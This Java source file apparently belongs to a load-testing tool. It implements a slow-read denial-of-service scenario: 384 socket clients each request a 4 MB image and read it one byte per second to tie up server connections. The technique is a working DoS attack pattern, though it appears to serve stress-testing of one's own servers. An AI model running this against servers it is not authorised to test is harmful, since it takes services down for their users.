package dev.fdlab.load.attack;

import java.io.IOException;
import java.net.Socket;

/** Asks for a large image and hardly reads it. */
final class SlowReaders implements Attack {

    private static final int PACE_MILLIS = 1_000;
    private static final int RECEIVE_BUFFER = 4096;

    @Override
    public String name() {
        return "slow-readers";
    }

    @Override
    public String does() {
        return "asks for an image of 4 MB and reads a byte a second";
    }

    @Override
    public int clients() {
        return 384;
    }

    @Override
    public void live(Target target) throws IOException, InterruptedException {
        try (Socket socket = target.connect(RECEIVE_BUFFER)) {
            socket.getOutputStream().write(target.get("/images/" + target.large()));
            while (socket.getInputStream().read() >= 0) {
                Thread.sleep(PACE_MILLIS);
            }
        }
    }
}
